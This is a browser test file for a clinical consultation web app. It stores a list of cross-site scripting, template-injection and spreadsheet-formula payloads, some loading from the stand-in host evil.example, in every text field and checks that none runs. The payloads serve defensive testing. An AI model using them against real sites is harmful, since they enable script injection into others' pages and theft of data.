"""Text that would run if a page took it for markup, stored in every text field, and every view of it opened.

Each run has a service of its own with 25 payloads: each stands in every field that takes text, and every page
that shows one of these fields is opened in one browser page, where focus and pointer are then tried on every element.
"""

from __future__ import annotations

import itertools
import os
import random
import re
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pytest
from hands import all_there
from playwright.sync_api import Browser, Page, expect
from service import Service
from watching import Visit, Watch

from consult.audit import actions, rounds, targets
from consult.documents import releasing, signing
from consult.documents.report import Chosen
from consult.proforma.answer import Answer
from consult.proforma.path import Path as OnPath
from consult.proforma.path import blank_emergencies, holding
from consult.record import erasing, incidents, settings
from consult.record.store import Start

pytestmark = pytest.mark.browser
A_BATCH = TOGETHER = 25
BORN = date(1970, 1, 2)
RAN = "window.ran=1"
EVIL = "//evil.example"
BODIES = (
    f"<script>{RAN}</script>",
    f"<ScRiPt src={EVIL}/x.js></sCrIpT>",
    f"<img src=x onerror={RAN}>",
    f"<img src={EVIL}/x.png>",
    f"<svg onload={RAN}>",
    f"<svg><script>{RAN}</script></svg>",
    f"<body onload={RAN}>",
    f'<iframe src="javascript:parent.{RAN}"></iframe>',
    f"<iframe srcdoc='<script>parent.{RAN}</script>'></iframe>",
    f"<details open ontoggle={RAN}><summary>x</summary></details>",
    f"<input autofocus onfocus={RAN}>",
    f"<video><source onerror={RAN}></video>",
    f"<audio src=x onerror={RAN}>",
    f"<marquee onstart={RAN}>x</marquee>",
    f'<object data="{EVIL}/x.swf"></object>',
    f'<embed src="javascript:{RAN}">',
    f'<a href="javascript:{RAN}">x</a>',
    f'<a href="java\tscript:{RAN}">x</a>',
    f'<form action="javascript:{RAN}"><button>x</button></form>',
    f'<math href="javascript:{RAN}">x</math>',
    f"<style>@import url({EVIL}/x.css);</style>",
    f'<link rel=stylesheet href="{EVIL}/x.css">',
    f'<meta http-equiv=refresh content="0;url=https:{EVIL}">',
    f'<base href="https:{EVIL}/">',
    f'<p style="background:url({EVIL}/x)">x</p>',
    f'<b data-hx-get="{EVIL}/" data-hx-trigger="load">x</b>',
    f"<b hx-on:load={RAN}>x</b>",
    f"<template><script>{RAN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RAN}>'></noscript>",
    f'" onmouseover="{RAN}" x="',
    f"' onfocus='{RAN}' autofocus x='",
    f"` onclick={RAN} `",
    f"{{{{ 7*7 }}}}{{% for x in ().__class__.__base__.__subclasses__() %}}{{% endfor %}}${{{RAN}}}",
    f"[x](javascript:{RAN}) ![x]({EVIL}/x.png) <javascript:{RAN}>",
    f'=HYPERLINK("{EVIL}","x")+cmd|\' /C calc\'!A0',
    f"&lt;script&gt;{RAN}&lt;/script&gt;",
    f"\\u003cscript\\u003e{RAN}\\u003c/script\\u003e",
    f"＜script＞{RAN}＜/script＞",
)
BEFORE = ("", '">', "'>", "</textarea>", "</title>", "</script>", "-->", "<!--", "]]>", "</option></select>", "</pre>")
ANYTHING = """() => {
  const odd = [];
  for (const e of document.querySelectorAll('*')) {
    for (const a of e.attributes) {
      const text = ['value', 'content', 'aria-label', 'title', 'data-said'].includes(a.name);
      if (/^(on|hx-)/i.test(a.name) || !text && /evil[.]example|javascript:/i.test(a.value))
        odd.push(e.tagName + ' ' + a.name + '=' + a.value);
    }
    for (const type of ['mouseover', 'focus']) e.dispatchEvent(new Event(type));
  }
  const never = 'iframe, object, embed, base, marquee, math, audio, video';
  if (document.querySelector(never)) odd.push('an element of a payload');
  if (window.ran) odd.push('it ran');
  return odd;
}"""


def payloads(seed: int) -> list[str]:
    """Every body behind every beginning, in an order drawn by the seed."""
    every = [before + body for before, body in itertools.product(BEFORE, BODIES)]
    every += [re.sub(r"(?<=<)/?\w+", lambda tag: tag[0].upper(), body) for body in BODIES]
    every += [re.sub(r"(?<=\w)[ =]", lambda gap: f"\t{gap[0]}\n", body) for body in BODIES]
    random.Random(seed).shuffle(every)
    return list(dict.fromkeys(every))


class Planted:
    """A service in which each payload stands in every field that takes text; and the addresses that show them."""

    def __init__(self, service: Service, texts: list[str]) -> None:
        self.service, self.texts = service, texts
        self.store, self.who = service.instance.store, service.who("nurse")
        self.employees = [self.register(text) for text in texts]
        self.pages: dict[str, list[str]] = {"nurse": ["/", "/follow-up"], "audit_lead": [], "administrator": []}
        groups = [texts[n : n + TOGETHER] for n in range(0, len(texts), TOGETHER)]
        for n, group in enumerate(groups):
            self.consultations(self.employees[n * TOGETHER], "\n".join(group), f"{n:04}")
        for n, text in enumerate(texts):
            self.audit(text, f"{n:04}")
        self.pages["nurse"] += [f"/employees/{e}" for e in self.employees[::TOGETHER]]
        self.pages["nurse"] += ["/results", "/results/measures/barriers_asked", "/rounds", "/actions", "/evidence/own"]
        self.pages["audit_lead"] += ["/results", "/rounds", "/rounds/targets", "/actions", "/incidents", "/evidence"]
        self.pages["administrator"] += ["/settings", "/incidents", "/settings/people"]

    def register(self, text: str) -> str:
        short = " ".join(text[:120].split())
        employee = self.store.register(short, BORN, text[:40], self.who)
        with self.service.instance.db.write() as conn:
            erasing.set_hold(conn, employee.id, f"hold {text}", None, self.who.actor, self.store.at())
        return employee.id

    def consultations(self, employee: str, words: str, key: str) -> None:
        """One that is open and one that is signed, every text of both being these words."""
        started = self.begin(employee, words, f"{key}-open")
        signed = self.begin(employee, words, f"{key}-signed")
        names = releasing.Names("x", "y")
        definition = self.service.instance.library.current
        kind = next(k for k in definition.reports.types if k.lines)
        written = {line.id: words for line in kind.lines}
        releasing.make_final(self.store, signed, Chosen(kind, (), written), names, "", f"{key}-final-report", self.who)
        signing.sign(self.store, signed, self.who, True, f"{key}-signature-000")
        signing.add_addendum(self.store, signed, words, words, {}, f"{key}-addendum-0000", self.who)
        self.pages["nurse"] += [
            f"/consultations/{started}{end}" for end in ("", "/sign", "/letter", "/report", "/steps")
        ]
        self.pages["nurse"] += [
            f"/consultations/{signed}{end}" for end in ("", "/note", "/report", "/steps", "/addendum")
        ]
        self.pages["nurse"] += [f"/results/cases/DEMO/live/{signed}"]

    def begin(self, employee: str, words: str, key: str) -> str:
        id_ = self.store.start(Start(employee, "A", "DEMO", "in_person", "45-54"), self.who)
        first = {
            "back_pain_reason": "main",
            "stay_or_return_advice": "not_appropriate",
            "adjustment_types": ["phased_return", "other_adjustment"],
            "report_consent": "given",
        }
        for question, value in first.items():
            self.save(id_, question, Answer("answered", value), key)
        self.save(id_, "saddle_feeling_change", Answer("present"), key)
        for question in self.path(id_).questions():
            if question.kind == "text":
                self.save(id_, question.id, Answer("answered", words), key)
            elif question.kind == "arrangement":
                said = {"what": words, "no_end_reason": words, "start": "2026-12-01"}
                self.save(id_, question.id, Answer("answered", said), key)
        self.decide(id_, words, key)
        blank = [q.id for q in blank_emergencies(self.path(id_))]
        said = {"reason": "other", "text": words, "questions": blank}
        self.store.note(id_, "blank_emergencies_explained", said, f"{key}-blank-00000", self.who)
        return id_

    def path(self, id_: str) -> OnPath:
        return self.store.path_of(self.service.consultation(id_))

    def save(self, id_: str, question: str, answer: Answer, key: str) -> None:
        asked = self.service.instance.library.current.proforma.by_id[question]
        seen = self.service.consultation(id_).seen(question)
        self.store.save(id_, asked, answer, seen, f"{key}-{question}", "single", self.who)

    def decide(self, id_: str, words: str, key: str) -> None:
        path = self.path(id_)
        held = holding(path)
        content = {
            "questions": [q.id for q in held],
            "states": [path.answer(q.id).state for q in held],
            "levels": [path.level(q.id) for q in held],
            "decision": "other",
            "reason": words,
            "told": words,
        }
        self.store.note(id_, "decision_recorded", content, f"{key}-decision-00", self.who)

    def audit(self, text: str, key: str) -> None:
        """A site, a person, a round, a target, an action and an incident, all of whose words are this text."""
        lead, at = self.service.who("audit_lead"), self.store.at()
        who, long = (lead.actor, lead.role), f"key-of-{key}-0123456789"
        code, name = f"S{key}", " ".join(text.split())[:80]
        with self.service.instance.db.write() as conn:
            settings.put_site(conn, settings.Site(code, name, dict.fromkeys(settings.ROUTE_LABELS, text)), "test", at)
            wanted = rounds.Wanted(f"{key} {name}"[:80], "DEMO", "live", "2026-01-01", "2026-12-31", "all")
            of = rounds.set_round(conn, wanted, who, at, f"{long}-round")
            targets.set_target(conn, "barriers_asked", 0.8, text, who, at, f"{long}-target")
            act = actions.Wanted("barriers_asked", of, "", text, text, "", name, "2026-12-31", text)
            action = actions.set_action(conn, act, who, at, f"{long}-action")
            noted = incidents.Incident("", "2026-01-05", text, text, text)
            today = self.service.instance.today()
            incidents.note(conn, noted, who, today, at, f"{long}-incident")
            conn.execute("UPDATE person SET name = ? WHERE username = 'pia.physio'", (name,))
        if int(key) % TOGETHER == 0:
            self.pages["audit_lead"] += [f"/rounds/{of}", f"/actions/{action}", f"/rounds/{of}/results"]
            self.pages["audit_lead"] += [f"/evidence/rounds/{of}/report", f"/evidence/rounds/{of}/slides"]


def open_each(page: Page, watch: Watch, planted: Planted, role: str) -> None:
    for path in planted.pages[role]:
        reply = page.goto(path, wait_until="load")
        all_there(page)
        assert reply is not None
        assert reply.status == 200, (path, reply.status)
        assert page.evaluate(ANYTHING) == [], path
        assert complaints(watch) == [], path


def complaints(watch: Watch) -> list[str]:
    """What the browser complained of; for a note, which is plain text, it asks for an icon by itself."""
    return [one for one in watch.complaints if not one.endswith("/favicon.ico")]


def everyone_found(page: Page, watch: Watch, n: int) -> None:
    """Every name and number in one list, found by the day of birth they share."""
    page.goto("/employees")
    page.fill("#words", f"{BORN:%d/%m/%Y}")
    page.keyboard.press("Enter")
    expect(page.locator("main a[href*='/employees/']")).to_have_count(n)
    assert page.evaluate(ANYTHING) == []
    assert complaints(watch) == []


def everything_held(page: Page, watch: Watch, employee: str) -> None:
    page.goto(f"/employees/{employee}/everything")
    page.fill("#reason", BODIES[0] + BODIES[2])
    page.click("main button[name=form][value=html]")
    page.wait_for_selector("text=Who did, changed and looked at what")
    page.emulate_media(media="print")
    assert page.evaluate(ANYTHING) == []
    page.emulate_media(media="screen")
    assert complaints(watch) == []


def run_nowhere(folder: Path, browser: Browser, texts: list[str]) -> int:
    """Plant the payloads and open every view of them; returns how many pages were opened."""
    service = Service(folder)
    try:
        planted = Planted(service, texts)
        for role in planted.pages:
            watch = visited(service, browser, role)
            page = watch.page()
            page.set_default_timeout(30_000)  # what is asked here is what runs, not how fast a page comes
            open_each(page, watch, planted, role)
            if role == "nurse":
                everyone_found(page, watch, len(texts))
                everything_held(page, watch, planted.employees[0])
            watch.context.close()
        return sum(map(len, planted.pages.values()))
    finally:
        service.close()


def visited(service: Service, browser: Browser, role: str) -> Watch:
    context = browser.new_context(base_url=service.address, viewport={"width": 1366, "height": 768}, locale="en-GB")
    cookie = {"name": "consult_session", "value": service.token(role), "url": service.address}
    context.add_cookies([cookie])
    return Watch(context, service.address)


def seed() -> int:
    drawn = int(os.environ.get("CONSULT_SEED") or random.SystemRandom().randrange(10**9))
    print(f"CONSULT_SEED={drawn}")
    return drawn


def test_a_share_of_the_payloads_runs_nowhere(tmp_path: Path, browser: Browser) -> None:
    assert run_nowhere(tmp_path / "instance", browser, payloads(seed())[:A_BATCH]) > 30


@pytest.mark.soak
def test_five_hundred_payloads_run_nowhere(tmp_path: Path, browser: Browser) -> None:
    every = payloads(seed())
    assert len(every) > 450
    every += [f"x{text}" for text in every[: max(0, 500 - len(every))]]
    opened = [run_nowhere(tmp_path / str(n), browser, every[n : n + A_BATCH]) for n in range(0, len(every), A_BATCH)]
    print(f"{len(every)} payloads, {sum(opened)} pages opened")


@pytest.fixture
def nurse(open_visit: Visit) -> Iterator[Watch]:
    watch = open_visit("nurse")
    yield watch
    watch.context.close()


def test_a_payload_that_reached_a_page_would_be_noticed(nurse: Watch) -> None:
    """The control: put into a page as markup, the policy stops it and says so; where nothing stops it, it runs."""
    page = nurse.page()
    page.goto("/")
    page.evaluate(f"document.body.insertAdjacentHTML('beforeend', `{BODIES[2]}{BODIES[3]}`)")
    page.wait_for_timeout(200)
    said = " ".join(nurse.complaints)
    assert "CSP" in said
    assert page.evaluate(ANYTHING) != []
    page.goto("about:blank")
    page.set_content(BODIES[2])
    page.wait_for_timeout(200)
    assert "it ran" in page.evaluate(ANYTHING)


def test_the_browser_keeps_nothing_of_what_was_typed(nurse: Watch, service: Service) -> None:
    here, words = service.begin(), "Plainly typed words"
    page = nurse.page()
    page.goto(f"/consultations/{here}")
    page.fill('[name="a.employee_concern"]', words)
    page.keyboard.press("Tab")
    expect(page.locator("#save-state")).to_contain_text("Saved ")
    kept = page.evaluate(
        "async () => ({local: {...localStorage}, session: {...sessionStorage}, databases: await indexedDB.databases(), "
        "caches: await caches.keys(), cookies: document.cookie, history: history.state})"
    )
    assert (kept["local"], kept["databases"], kept["caches"], kept["history"]) == ({}, [], [], None)
    assert kept["session"] in ({}, {"htmx-current-path-for-history": f"/consultations/{here}"})
    name = service.new_person()[0].split()[0]
    said = f"{kept} {nurse.context.cookies()} {page.title()} {page.url}"
    assert words not in said
    assert name not in said
